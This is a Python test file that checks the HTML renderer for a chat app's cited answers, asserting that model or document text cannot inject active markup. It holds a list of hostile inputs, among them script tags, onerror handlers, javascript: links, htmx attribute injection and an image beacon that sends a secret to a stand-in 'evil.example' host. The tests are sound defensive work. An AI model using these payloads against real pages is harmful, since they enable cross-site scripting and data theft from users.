"""Nothing that a model or a document says can act on the page."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from apps.conversations.citations.markers import CitablePassage, Piece, answer_cite
from apps.conversations.display.marks import UNSUPPORTED
from apps.conversations.display.rendering import blocks_render
from tests.conversations.dom import parse
from tests.walked import each

PASSAGES = {1: CitablePassage(1, 1, '"><script>alert(1)</script>', "C", "text", 1, 0)}


def render(text: str, name: str = '"><script>alert(1)</script>') -> str:
    cited = answer_cite(text, PASSAGES)
    return "".join(b.html for b in blocks_render(cited.pieces, run_id=7, labels={1: name}))


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](http://evil.example/track.png?d=secret)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](/t/acme/chat/1/delete/)",
    "[x](//evil.example)",
    '[x](http://a.example "t\\" hx-get=\\"/x")',
    '<a href="#" hx-get="/x" hx-trigger="load">x</a>',
    '<div hx-on:click="alert(1)">',
    '<button class="cite" data-cite="1-1">1</button>',
    "<style>*{display:none}</style>",
    '```"onmouseover="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```python\nx = '[c1]<script>'\n```",
    "`[c1]<img src=x onerror=alert(1)>`",
    "| a |\n|--:|\n| <img src=x onerror=alert(1)> [c1] |",
    "\ue0001\ue001 \ue0021\ue003 \ue0029\ue003 \ue006 \ue008",
    "&#xe006; &#xE008; &#57350; &#57352; &#xe002;1&#xe003; &#xe0&#xe006;06;",
    '[x](http://a.example "&#xe006;onmouseover=alert(1) &#xe008;&#xe002;1&#xe003;")',
    "```&#xe008;\n&#xe006;\n```",
    r"$\text{<script>alert(1)</script>}$ \(\href{javascript:alert(1)}{x}\) \[\style{x:y}{z}\]",
    "$$\n\\text{</math><img src=x onerror=alert(1)>}[c1]\n$$",
    "$$\n\\class{a}{b} &#xe00d;0&#xe00e; \ue00d0\ue00e",
    "\ue00c1 &#xe00c;1 - [x] a \ue008\ue00ax\ue00b",
    "<https://a.example/%EE%80%8B%EE%80%88%EE%80%8A%EE%80%858%EE%80%829%EE%80%83> <http://xn--cz0c.example/>",
    "- [x] [c1] a\n- [ ] <input onclick=alert(1)>",
    "[c1]: http://evil.example\n\n[c1]",
    "<!-- --><form action=/x><input name=csrfmiddlewaretoken></form>",
    "<hx-partial hx-target='#refs'>x</hx-partial>",
]
ALLOWED = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "span": {"class"},
    "pre": {"class"},
    "div": {"class"},
    "th": {"class"},
    "td": {"class"},
    "button": {
        "class",
        "type",
        "data-cite",
        "data-copy-next",
        "data-wrap-lines",
        "data-word",
        "data-copied",
        "aria-label",
    },
    "input": {"class", "type", "disabled", "checked", "aria-label"},
    "code": {"class"},
    "math": {"display"},
    "annotation": {"encoding"},
}

_PLAIN = "blockquote br code del em h1 h2 h3 h4 h5 h6 hr li p s strong table tbody thead tr ul semantics mi mo mn mtext mrow"
TAGS = set(ALLOWED) | {*_PLAIN.split()}


def assert_harmless(html: str) -> None:
    for node in parse(html).elements():
        assert node.tag in TAGS, node
        assert set(node.attrs) <= ALLOWED.get(node.tag, set()), node
        if node.tag == "a" and "href" in node.attrs:
            assert re.match(r"(https?://|mailto:)", node.attrs["href"]), node
            assert "noopener" in node.attrs["rel"]
        if node.tag == "input":
            assert "disabled" in node.attrs
        if node.tag == "button" and not {"data-copy-next", "data-wrap-lines"} & set(node.attrs):
            assert re.fullmatch(r"7-\d+", node.attrs["data-cite"])
    assert html.count("<div") == html.count("</div>") == html.count(" data-copy-next ")


@each("text", HOSTILE)
def test_output_is_harmless(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(render(f"* {text}\n\n> {text}\n\n# {text}"))


@settings(deadline=None)  # a busy machine is no failure
@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", " ", "**", "`", "[c1]", "a"]), max_size=6).map("".join))
def test_output_is_harmless_in_any_mixture(text: str) -> None:
    assert_harmless(render(text))


def test_only_cited_markers_are_buttons() -> None:
    html = render("Yes [c1]. `[c1]` \ue0029\ue003 <button class=cite>")
    buttons = [e for e in parse(html).elements() if e.tag == "button"]
    assert [b.text() for b in buttons] == ["1"]
    assert buttons[0].attrs["aria-label"] == 'Source 1: "><script>alert(1)</script>'
    assert "<code>[1]</code>" in html


def test_markers_in_a_formula_stand_behind_it() -> None:
    html = render("So $a [c1] = b$.\n\n$$\na = b [c1]\n$$\n")
    sources = re.findall(r"<annotation[^>]*>([^<]*)</annotation>", html)
    assert [source.split() for source in sources] == [["$a", "=", "b$"], ["$$", "a", "=", "b", "$$"]]
    assert re.findall(r"</math>(?:</span>)?(<button)", html.replace('<span class="nb">', "")) == [
        "<button",
        "<button",
    ]


def test_box_in_a_marked_sentence_stays_whole() -> None:
    pieces = [Piece("- ", mark=UNSUPPORTED), Piece("Said\n  ```\n  code\n  ```\n  there", ends=True)]
    html = "".join(block.html for block in blocks_render(pieces, run_id=7, labels={}))
    assert re.search(r'<span class="nosrc"[^>]*>Said\s*</span><div class="copyable code">', html)


def test_blocks_are_the_top_level_ones() -> None:
    cited = answer_cite("# A\n\npara\nstill\n\n* x\n* y\n\n```py\n1\n```\n\n| a |\n|-|\n| b |", {})
    blocks = blocks_render(cited.pieces, run_id=1, labels={})
    assert [b.index for b in blocks] == [0, 1, 2, 3, 4]
    assert [re.match(r"<(\w+)", b.html)[1] for b in blocks] == ["h1", "p", "ul", "div", "div"]  # type: ignore[index]


def test_alignment_and_highlighting_need_no_style_attribute() -> None:
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n```python\ndef f(): pass\n```")
    assert 'class="ta-r"' in html
    assert 'class="ta-c"' in html
    assert '<span class="k">def</span>' in html
    assert "style=" not in html
